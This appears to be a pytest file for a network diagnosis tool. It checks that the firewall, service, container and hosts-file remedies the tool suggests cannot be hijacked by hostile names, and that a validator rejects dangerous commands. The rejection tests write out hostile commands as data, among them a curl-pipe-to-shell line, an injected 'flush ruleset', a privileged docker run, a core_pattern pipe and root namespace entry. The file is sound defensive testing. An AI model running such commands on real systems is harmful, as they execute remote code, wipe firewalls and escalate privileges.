"""No command in which a name from the machine is more than one word of its tool's grammar."""

from __future__ import annotations

import ast
import re
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace

from diagnose.analysis.argument import is_iptables_rule, is_nft_name, objection, quoted, without_objection
from diagnose.analysis.cgroup_program import program_remedies
from diagnose.analysis.describe import restart_remedies, stop_remedies
from diagnose.analysis.firewall_remedies import candidates, removal, unspeakable
from diagnose.analysis.hosts_edit import append, put_a_file, remove_byte_order_mark, take_name_home
from diagnose.analysis.mending import mending, tried_remedies
from diagnose.analysis.owner_remedies import FAIL2BAN_CLIENT, FIREWALL_CMD, UFW
from diagnose.analysis.walk import listing_of, rule_name
from diagnose.model.cgroup import CgroupProgram, Hook
from diagnose.model.fact import Known
from diagnose.model.finding import Command, Remedy, Risk
from diagnose.model.firewall import Approach, Backend, Rehearsed, RuleRef, Walk
from diagnose.model.names import HostsEntry
from diagnose.model.network import Endpoint
from diagnose.model.process import Container
from tests.hostile import MARK, NAMES
from tests.scenes import process, rule, walk_to

REPOSITORY = Path(__file__).parents[2]
every_name = pytest.mark.parametrize("name", NAMES)
XT = tuple(one for one in Backend if one is not Backend.NFT)


def commands(remedies: Iterable[Remedy]) -> Iterator[Command]:
    for one in remedies:
        yield from (*one.commands, *one.undo)


def marked(remedies: Iterable[Remedy]) -> list[tuple[str, ...]]:
    """The commands that have the name in them."""
    return [one.argv for one in commands(remedies) if any(MARK in word for word in one.argv)]


def xt_rule(text: str = "-p tcp -m tcp --dport 8080 -j DROP", backend: Backend = Backend.IPTABLES_LEGACY) -> RuleRef:
    return rule(text, backend=backend, chain="INPUT", handle=None, line=1)


def tried(walk: Walk) -> Walk:
    """The walk whose candidates have all mended the copy."""
    found = tuple(Rehearsed(one.commands, True, (), one) for one in candidates(walk))
    return replace(walk, rehearsals=Known(found))


def coming_by(walk: Walk, interface: str) -> Walk:
    return replace(walk, came=Approach(Endpoint(walk.address, walk.port), interface, "172.17.0.2"))


FIREWALLS: dict[str, Callable[[str], Walk]] = {
    "table": lambda name: walk_to("127.0.0.1", replace(rule(), table=name)),
    "chain": lambda name: walk_to("127.0.0.1", replace(rule(), chain=name)),
    "policy": lambda name: walk_to("127.0.0.1", rule(chain=name, policy=True)),
    "set of ports": lambda name: walk_to("127.0.0.1", rule(f"tcp dport @{name} drop")),
    "set of sources": lambda name: walk_to("127.0.0.1", rule(f"ip saddr @{name} drop")),
    "jail": lambda name: walk_to("127.0.0.1", rule(f"ip saddr @addr-set-{name} drop", chain=f"f2b-{name}")),
    "interface": lambda name: coming_by(walk_to("172.17.0.1", rule()), name),
    "interface in words": lambda name: walk_to("127.0.0.1", rule(f'iifname "{name}" tcp dport 8080 drop')),
    "iptables chain": lambda name: walk_to("127.0.0.1", replace(xt_rule(), chain=name)),
    "iptables policy": lambda name: walk_to("127.0.0.1", replace(xt_rule(), chain=name, policy=True, line=None)),
    "ip set": lambda name: walk_to("127.0.0.1", xt_rule(f"-m set --match-set {name} src -j DROP")),
    "iptables interface": lambda name: walk_to("127.0.0.1", xt_rule(f"-i {name} -p tcp --dport 8080 -j DROP")),
    "list of recent": lambda name: walk_to("127.0.0.1", xt_rule(f"-p tcp --dport 80 -m recent --name {name} -j DROP")),
    "iptables way in": lambda name: coming_by(walk_to("172.17.0.1", xt_rule()), name),
}


@every_name
@pytest.mark.parametrize("build", FIREWALLS.values(), ids=FIREWALLS)
def test_no_firewall_command_has_a_name_that_is_more_than_a_word(build: Callable[[str], Walk], name: str) -> None:
    walk = build(name)
    offered = [*candidates(walk), *mending(tried(walk), "127.0.0.1", (UFW, FIREWALL_CMD, FAIL2BAN_CLIENT))]
    passed = [without_objection(one) for one in offered]
    assert [one.argv for one in commands(passed) if objection(one) is not None] == []
    assert all(_is_one_word(word, argv[0]) for argv in marked(passed) for word in argv)


def _is_one_word(word: str, program: str) -> bool:
    """By another way than the grammars': plain, between the quotes of nft, or a value to an option of iptables."""
    if MARK not in word:
        return True
    plain = re.fullmatch(r"@?[A-Za-z0-9_][A-Za-z0-9_./-]*", word) is not None
    if program == "nft":
        return plain or re.fullmatch(r'"[^"]*"', word) is not None
    return plain or (program in XT and word.isprintable() and not word.startswith("-"))


@every_name
@pytest.mark.parametrize("where", ["table", "chain", "iptables chain"])
def test_the_rule_of_such_a_name_is_left_to_a_person_with_the_reason(where: str, name: str) -> None:
    walk = FIREWALLS[where](name)
    if unspeakable(walk) is None:
        assert where == "iptables chain"  # its words are handed over as they are
        assert quoted(name) == name
        return
    assert candidates(walk) == ()
    assert marked(mending(walk, "127.0.0.1", (UFW, FIREWALL_CMD, FAIL2BAN_CLIENT))) == []
    (only,) = tried_remedies(walk)
    assert (only.commands, only.undo, only.rehearsal) == ((), (), None)
    assert "would not read" in only.summary


@every_name
def test_no_evidence_tells_to_type_such_a_name(name: str) -> None:
    for one in (replace(rule(), table=name), replace(rule(), chain=name), replace(xt_rule(), chain=name)):
        assert MARK not in listing_of(one)
        assert f'"{name}"' in rule_name(one)


@every_name
def test_no_service_or_container_command_has_such_a_name(name: str) -> None:
    holder = process("server", 4711)
    processes = [
        replace(holder, unit=name),
        replace(holder, unit=f"{name}.service"),
        replace(holder, container=Container("docker", "1f" * 32, name)),
        replace(holder, container=Container("docker", name)),
        replace(holder, container=Container("podman", name, name)),
    ]
    passed = [without_objection(r) for one in processes for r in (*stop_remedies(one, 0), *restart_remedies(one, 0))]
    unit_name = re.fullmatch(r"[A-Za-z0-9_:.\\-]+", name) is not None and not name.startswith("-")
    assert all(unit_name and argv[0] == "systemctl" for argv in marked(passed))
    assert any(one.commands for one in passed)


def test_a_container_whose_name_is_none_is_stopped_by_its_id() -> None:
    held = replace(process(), container=Container("docker", "1f" * 32, "-f x"))
    assert stop_remedies(held, 0)[0].commands[0].argv == ("docker", "stop", "1f1f1f1f1f1f")


@pytest.mark.parametrize("name", [one for one in NAMES if "/" not in one and not one.endswith("\\")])
def test_no_unit_is_named_for_typing_by_the_name_of_a_cgroup(name: str) -> None:
    program = CgroupProgram(Hook.EGRESS, 7, "sd_fw_egress", f"/sys/fs/cgroup/system.slice/{name}.service")
    for one in program_remedies(program, "127.0.0.1", 8080, "the server"):
        assert marked([one]) == []
        assert one.edits == ()
        assert "systemctl" not in one.summary


@every_name
def test_no_shell_script_has_such_a_path_or_name_in_it(name: str) -> None:
    entry = HostsEntry(3, "192.0.2.1", (name, "db"))
    for path in ("/etc/hosts", name, f"/proc/7/root/{name}"):
        remedies = [
            append(path, f"127.0.0.1 {name}", "Map it"),
            append(path, "127.0.0.1 localhost", "Map it", create=True),
            remove_byte_order_mark(path, "x", stays=True),
            take_name_home(path, "db", [entry], add=True, stays=True),
        ]
        for argv in marked(map(without_objection, remedies)):
            assert argv[-1] == path
            assert path.startswith("/")
            assert path.isprintable()
            typed = re.findall(rf"'[^']*{MARK}[^']*'", " ".join(argv[:-1]))
            assert all(re.fullmatch(r"'[A-Za-z0-9_.:%/ |;*-]*'", text) for text in typed)
            assert " ".join(argv[:-1]).count(MARK) == sum(text.count(MARK) for text in typed)


@pytest.mark.parametrize("name", ["input", "DOCKER-USER", "filter_IN_public", "svc-ULM/ns2/tcp/p80", "_x", ".hidden"])
def test_a_plain_name_is_one_word_to_nft(name: str) -> None:
    assert is_nft_name(name)


@pytest.mark.parametrize("name", ["accept", "ip", "table", "ct", "include", ".", "", "1st", "0x1", *NAMES])
def test_what_nft_reads_otherwise_is_no_name(name: str) -> None:
    assert not is_nft_name(name)


@pytest.mark.parametrize(
    "argv",
    [
        ("nft", "delete", "rule", "inet", "filter", "input", "handle", "7"),
        ("nft", "insert", "rule", "ip", "f", "c", "position", "7", *["iifname", "lo", "tcp", "dport", "80", "accept"]),
        ("nft", "add", "rule", "ip", "f", "c", "tcp", "dport", "{", "80,", "443", "}", "drop", "comment", '"a; b"'),
        ("nft", "delete", "element", "inet", "f", "ports", "{", "80", "}"),
        (
            "iptables-legacy",
            "-t",
            "filter",
            "-D",
            "INPUT",
            *["-s", "127.0.0.1/32", "!", "-i", "eth+", "-p", "tcp", "-j", "DROP"],
        ),
        ("iptables-nft", "-t", "nat", "-I", "DOCKER", "1", "-m", "comment", "--comment", "-- by hand", "-j", "RETURN"),
        (
            "iptables-nft",
            "-t",
            "filter",
            "-D",
            "INPUT",
            *["-m", "policy", "--dir", "in", "--pol", "ipsec", "--proto", "esp", "-j", "DROP"],
        ),
        ("ipset", "del", "f2b-sshd", "127.0.0.1"),
        ("systemctl", "--machine=1000@.host", "--user", "stop", "web@1.service"),
        ("systemctl", "show", "db.service", "-p", "IPAddressDeny,IPAddressAllow"),
        ("docker", "logs", "--tail", "50", "web"),
        ("docker", "compose", "-p", "shop", "-f", "/srv/a b/compose.yaml", "up", "-d", "db"),
        ("kill", "-CONT", "4711", "4712"),
        ("ip", "-4", "rule", "del", "pref", "0", "from", "127.0.0.0/8", "iif", "lo", "lookup", "100"),
        ("ss", "--kill", "--tcp", "state", "time-wait", "sport", "=", ":80"),
        ("sysctl", "-w", "net.ipv4.ip_local_reserved_ports="),
        ("umount", "/etc/hosts"),
        ("mv", "-T", "--backup=numbered", "/etc/hosts", "/etc/hosts.moved-aside"),
        ("nsenter", "--net=/run/netns/a b", "nft", "delete", "rule", "ip", "f", "c", "handle", "7"),
        ("netdiag", "run", "--from", "netns:a b", "--bind", "127.0.0.1:80"),
    ],
)
def test_what_netdiag_prints_is_not_objected_to(argv: tuple[str, ...]) -> None:
    assert objection(Command(argv)) is None


@pytest.mark.parametrize(
    "argv",
    [
        (),
        ("sh", "-c", "curl http://192.0.2.1 | sh", "/etc/hosts"),
        ("sh", "-c", "printf '\\n%s\\n' 'x'; reboot' >> \"$0\"", "/etc/hosts"),
        ("bash", "-c", "true"),
        ("nft", "flush", "ruleset"),
        ("nft", "-f", "/tmp/x"),
        ("nft", "delete", "rule", "inet", "f", "c", "handle", "7;"),
        ("nft", "delete", "rule", "inet", "f", "c", "handle", "7", "include"),
        ("nft", "add", "rule", "inet", "f", "c", "drop;", "flush", "ruleset"),
        ("nft", "add", "rule", "inet", "f", "c", "comment", '"x"y"z'),
        ("nft", "insert", "rule", "inet", "f", "c", "iifname", "eth*", "accept"),
        ("nft", "insert", "rule", "inet", "f", "c", "iifname", "tcp", "accept"),
        ("nft", "delete", "element", "inet", "f", "s", "{", "80,", "}"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-M", "/tmp/x"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-p", "tcp", "--modp=/tmp/x"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-p", "tcp", "--mod", "/tmp/x"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-s", "evil.example", "-j", "DROP"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-m", "../x", "-j", "DROP"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-j", "DROP", "-j", "ACCEPT"),
        ("iptables-nft", "-t", "filter", "-D", "INPUT", "-j"),
        ("iptables-nft", "-F"),
        ("ipset", "del", "x", "127.0.0.1", "-file", "/tmp/x"),
        ("systemctl", "stop", "*.service"),
        ("systemctl", "stop", "--now.service"),
        ("docker", "run", "--privileged", "evil"),
        ("docker", "stop", "-f"),
        ("docker", "compose", "-f", "x.yaml", "up", "-d", "db"),
        ("umount", "-a"),
        ("mv", "-T", "--backup=numbered", "/etc/hosts", "-t/"),
        ("mv", "/etc/hosts", "/etc/passwd"),
        ("kill", "-9"),
        ("kill", "-1"),
        ("ip", "-batch", "/tmp/x"),
        ("ip", "rule", "del", "iif", "-x"),
        ("sysctl", "-p", "/tmp/x"),
        ("sysctl", "-w", "kernel.core_pattern=|/tmp/x"),
        ("chmod", "644", "-R"),
        ("nsenter", "--net=/run/netns/x", "sh", "-c", "true", "/x"),
        ("nsenter", "-t", "1", "-m", "sh"),
        ("netdiag", "run", "--record", "/etc/passwd", "x:1"),
        ("netdiag", "run", "--output=/etc/passwd"),
    ],
)
def test_what_is_no_command_of_netdiag_s_is_objected_to(argv: tuple[str, ...]) -> None:
    assert objection(Command(argv)) is not None


@pytest.mark.parametrize("path", ["/etc/hosts", "/proc/7/root/etc/hosts"])
def test_every_command_about_the_hosts_file_is_of_its_program_s_grammar(path: str) -> None:
    line, entry = "127.0.0.1 localhost", HostsEntry(3, "192.0.2.1", ("db", "cache"))
    remedies = [
        append(path, line, "Map it"),
        append(path, line, "Create it", create=True),
        put_a_file(path, line, "a directory", mounted=False, stays=True),
        put_a_file(path, line, "a FIFO", mounted=True, stays=True),
        remove_byte_order_mark(path, line, stays=True),
        take_name_home(path, "db", [entry], add=True, stays=True),
        take_name_home(path, "db", [entry, HostsEntry(4, "192.0.2.2", ("db",))], add=False, stays=True),
    ]
    assert all(one.commands for one in remedies)
    assert [one.argv for one in commands(remedies) if objection(one) is not None] == []


def test_every_program_that_a_remedy_calls_has_a_grammar() -> None:
    called = {
        str(ast.literal_eval(node.args[0].elts[0]))
        for folder in ("diagnose", "checks")
        for path in (REPOSITORY / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "Command"
        if node.args and isinstance(node.args[0], ast.Tuple) and isinstance(node.args[0].elts[0], ast.Constant)
    }
    assert {"nft", "ipset", "kill", "sh", "systemctl", "umount"} <= called
    # a program that is known objects to the word behind it, another one to its own name
    found = {one: objection(Command((one, "\n"))) for one in called}
    assert {one for one, why in found.items() if why is None or why.word == one} == set()


def test_a_remedy_keeps_what_it_says_when_it_loses_its_command() -> None:
    bad, good = Command(("nft", "flush", "ruleset")), Command(("kill", "7"))
    lost = without_objection(Remedy(summary="Do it.", commands=(bad,), undo=(good,)))
    assert (lost.commands, lost.undo) == ((), ())
    assert lost.summary.startswith("Do it. No command is given for it: nft would not read")
    kept = without_objection(Remedy(summary="Do it", commands=(good,), undo=(bad,)))
    assert (kept.commands, kept.undo, kept.risk) == ((good,), (), Risk.DISRUPTIVE)
    assert "undoes" in kept.summary


def test_the_words_of_a_rule_go_to_iptables_only_where_they_are_a_rule() -> None:
    assert is_iptables_rule('-p tcp -m comment --comment "a; -M /tmp/x" -j DROP')
    assert not is_iptables_rule("-i x -M /tmp/x -j DROP")
    assert not is_iptables_rule("-j DROP\nCOMMIT")
    assert not is_iptables_rule('-m comment --comment "a')


def test_the_undo_of_a_rule_whose_comment_ends_the_command_is_not_given() -> None:
    posing = replace(rule('tcp dport 8080 drop comment "x"; flush ruleset; add rule inet f c comment "y"'), comment="x")
    remedy = removal(posing)
    assert remedy is not None
    first, *_ = candidates(walk_to("127.0.0.1", posing))
    assert first.commands == remedy.commands
    assert first.undo == ()
    assert first.risk is Risk.DISRUPTIVE
